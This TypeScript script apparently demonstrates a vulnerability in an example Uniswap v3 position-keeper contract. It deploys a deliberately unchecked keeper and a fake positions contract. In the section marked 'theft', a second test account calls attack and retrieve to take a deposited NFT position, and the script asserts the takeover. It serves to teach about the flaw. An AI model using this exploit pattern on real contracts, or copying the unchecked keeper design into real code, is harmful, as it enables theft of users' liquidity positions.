import assert from 'node:assert/strict';
import {parseAbi} from 'viem';
import {account, client, clientOf, confirm, run} from '../../support/chain';
import {deploy} from '../../support/contract';
import {mintDirectly} from './support/mintPosition';
import {managerAbi, ownerOf, positionManager} from './support/positions';

const stranger = clientOf(2);
const fakePositions = {
  file: 'examples/v3/liquidity/FakePositions.sol',
  contract: 'FakePositions',
};
const uncheckedKeeper = {
  file: 'examples/v3/liquidity/UncheckedKeeper.sol',
  contract: 'UncheckedKeeper',
};
const fakeAbi = parseAbi(['function attack(address keeper, uint256 tokenId)']);
const uncheckedAbi = parseAbi(['function retrieve(uint256 tokenId)']);

async function main(): Promise<void> {
  const unchecked = await deploy(uncheckedKeeper, [positionManager]);
  const fake = await deploy(fakePositions);
  const tokenId = await mintDirectly();
  const deposited = await client.writeContract({
    address: positionManager,
    abi: managerAbi,
    functionName: 'safeTransferFrom',
    args: [account, unchecked, tokenId],
  });
  await confirm(deposited);
  console.log('deposited by  test account 0');

  // #region theft
  const claim = {address: fake, abi: fakeAbi, functionName: 'attack'} as const;
  await confirm(await stranger.writeContract({...claim, args: [unchecked, tokenId]}));
  const take = {address: unchecked, abi: uncheckedAbi, functionName: 'retrieve'} as const;
  await confirm(await stranger.writeContract({...take, args: [tokenId]}));
  assert.equal(await ownerOf(tokenId), stranger.account.address);
  // #endregion theft
  console.log('taken by      test account 2');
}

run(main);
